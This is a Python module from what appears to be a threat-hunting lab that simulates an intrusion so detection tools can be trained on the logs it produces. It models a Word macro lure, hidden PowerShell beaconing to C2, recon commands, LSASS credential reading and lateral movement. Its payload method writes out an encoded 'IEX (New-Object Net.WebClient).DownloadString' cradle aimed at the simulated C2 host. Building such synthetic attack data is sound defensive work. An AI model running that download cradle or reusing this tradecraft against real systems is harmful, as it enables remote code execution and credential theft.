"""Plays a planned intrusion on the stage of a day and writes down the truth about it."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING

from graphhunt.lab.generator import sysmon_events as sysmon
from graphhunt.lab.generator.actors import POWERSHELL, SYSTEM32, Visit
from graphhunt.lab.generator.config import SECOND_US
from graphhunt.lab.generator.techniques import TECHNIQUES, Landing, Move, encoded
from graphhunt.lab.generator.truth import Chain, Hop, LogonKey, ProcessKey

if TYPE_CHECKING:
    from collections.abc import Callable

    from graphhunt.lab.generator.actors import Host, Process, Session
    from graphhunt.lab.generator.scenario import Burst, Intrusion, Step
    from graphhunt.lab.generator.scene import Scene

    Later = Callable[[int, Callable[[int], None]], None]
    """Schedules an act for a time (µs), which the act gets as its argument."""

_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_LOOKING_AROUND = (
    (SYSTEM32 + "whoami.exe", "whoami.exe /all"),
    (SYSTEM32 + "net.exe", 'net.exe group "Domain Admins" /domain'),
    (SYSTEM32 + "ipconfig.exe", "ipconfig.exe /all"),
    (SYSTEM32 + "nltest.exe", "nltest.exe /dclist:"),
    (SYSTEM32 + "quser.exe", "quser.exe"),
)


def logon_key(session: Session) -> LogonKey:
    """Return where the logon of a session is found in the records."""
    return LogonKey(session.host.name, hex(session.logon_id), session.started)


def process_key(process: Process) -> ProcessKey:
    """Return where a process is found in the records."""
    return ProcessKey(process.host.name, process.guid, process.pid, process.image, process.started)


class IntrusionPlayer:
    """Performs one intrusion: each step schedules the next one and the beacons of what it won."""

    def __init__(self, scene: Scene, later: Later, plan: Intrusion) -> None:
        self.scene = scene
        self._later = later
        self.plan = plan
        person = self.scene.account(plan.person)
        start = self.scene.host(plan.machine)
        self.chain = Chain(plan.id, plan.cell, start.name, person.full, [])
        self._held: dict[int, tuple[Session, Process]] = {}
        for step in plan.steps:
            if step.stolen_on >= 0 and not plan.cell:
                self._prepare(step)
        later(plan.begin, self._foothold)

    def _prepare(self, step: Step) -> None:
        """Let the owner of a credential log on, earlier that day, to the machine it will be stolen on."""
        machine, world = step.stolen_on, self.scene.world
        when = step.t - int((1_800 + 5_400 * self.scene.lot()) * SECOND_US)
        source = int(world.home[world.admin_person[step.account - world.first_admin]])
        if source != machine:
            self._later(when, lambda t: self._visit(t, source, machine, step.account))

    def _visit(self, t: int, source: int, machine: int, account: int) -> None:
        scene = self.scene
        end = t + int(600 * SECOND_US * (1 + 4 * scene.lot()))
        scene.logon(t, scene.host(source), scene.host(machine), scene.account(account), Visit(end=end))

    def _foothold(self, t: int) -> None:
        """Open the lure: Word starts a hidden PowerShell, which calls home."""
        scene, plan = self.scene, self.plan
        actor, shell = scene.desk(plan.machine, scene.account(plan.person), t)
        word = scene.start(t - 25 * SECOND_US, shell, (_WORD, f'"{_WORD}" /n "Invoice_{t % 9973}.docm"'))
        process = scene.start(t, word, self._payload(), end=plan.end)
        self._held[plan.machine] = (actor, process)
        self._call_home(t, process)
        if plan.steps:
            self._later(plan.steps[0].t, lambda when: self._hop(when, 0))

    def _payload(self) -> tuple[str, str]:
        address, port = self.plan.c2
        script = f"IEX (New-Object Net.WebClient).DownloadString('http://{address}:{port}/news.php')"
        return POWERSHELL, f"{POWERSHELL} -NoP -sta -w 1 -enc {encoded(script)}"

    def _call_home(self, t: int, process: Process) -> None:
        first = t + int((1.5 + 2 * self.scene.lot()) * SECOND_US)
        self._later(first, lambda when: self._beacon(when, process))

    def _beacon(self, t: int, process: Process) -> None:
        if t >= self.plan.end:
            return
        self.scene.connect(t, process, *self.plan.c2)
        wait = int(self.plan.beacon_us * (0.85 + 0.3 * self.scene.lot()))
        self._later(t + wait, lambda when: self._beacon(when, process))

    def _hop(self, t: int, number: int) -> None:
        scene, step = self.scene, self.plan.steps[number]
        actor, origin = self._held[step.source]
        self._look_around(t, origin)
        if step.stolen_on >= 0:
            self._steal(t, self._held[step.stolen_on][1])
        move = Move(
            t=t,
            origin=origin,
            actor=actor,
            target=scene.host(step.target),
            account=scene.account(step.account),
            command=self._payload(),
            label=step.label,
            end=self.plan.end,
        )
        landing = TECHNIQUES[step.technique](scene, move)
        self.chain.hops.append(self._told(step, move, landing))
        # A service's child is SYSTEM, but the credentials in hand remain those of the session.
        self._held[step.target] = (landing.session, landing.process)
        self._call_home(landing.process.started, landing.process)
        if number + 1 < len(self.plan.steps):
            following = max(self.plan.steps[number + 1].t, landing.process.started + 20 * SECOND_US)
            self._later(following, lambda when: self._hop(when, number + 1))

    def _look_around(self, t: int, origin: Process) -> None:
        program = _LOOKING_AROUND[int(self.scene.lot() * len(_LOOKING_AROUND))]
        self.scene.start(t - 12 * SECOND_US, origin, program, end=t - 11 * SECOND_US)

    def _steal(self, t: int, origin: Process) -> None:
        """Read LSASS on the machine held: Sysmon 10 with the mask of a credential dumper."""
        target = origin.host.resident["lsass"]
        self.scene.feed.add(t - 8 * SECOND_US, origin.host, sysmon.process_access(origin, target, "0x1010"))

    def _told(self, step: Step, move: Move, landing: Landing) -> Hop:
        return Hop(
            t=landing.session.started,
            src=move.source.name,
            dst=move.target.name,
            user=move.account.full,
            technique=step.technique,
            logon=logon_key(landing.session),
            process=process_key(landing.process),
            source_process=process_key(move.origin),
            service=landing.service,
            c2=f"{self.plan.c2[0]}:{self.plan.c2[1]}",
            stolen_on=self.scene.host(step.stolen_on).name if step.stolen_on >= 0 else None,
        )


class BurstPlayer:
    """Performs a star-shaped burst: NTLM logons from one machine to many."""

    def __init__(self, scene: Scene, later: Later, plan: Burst) -> None:
        self.scene = scene
        self.source: Host = self.scene.host(plan.machine)
        self.account = self.scene.account(plan.account)
        self.chain = Chain(plan.id, "", self.source.name, self.account.full, [])
        for t, target in zip(plan.times, plan.targets, strict=True):
            later(t, partial(self._touch, target))

    def _touch(self, machine: int, t: int) -> None:
        scene, target = self.scene, self.scene.host(machine)
        port = scene.connect(t - 4_000, self.source.resident["system"], target, 445)
        end = t + int((2 + 20 * scene.lot()) * SECOND_US)
        session = scene.logon(t, self.source, target, self.account, Visit(port=port, ntlm=True, end=end))
        hop = Hop(session.started, self.source.name, target.name, self.account.full, "burst", logon_key(session))
        self.chain.hops.append(hop)
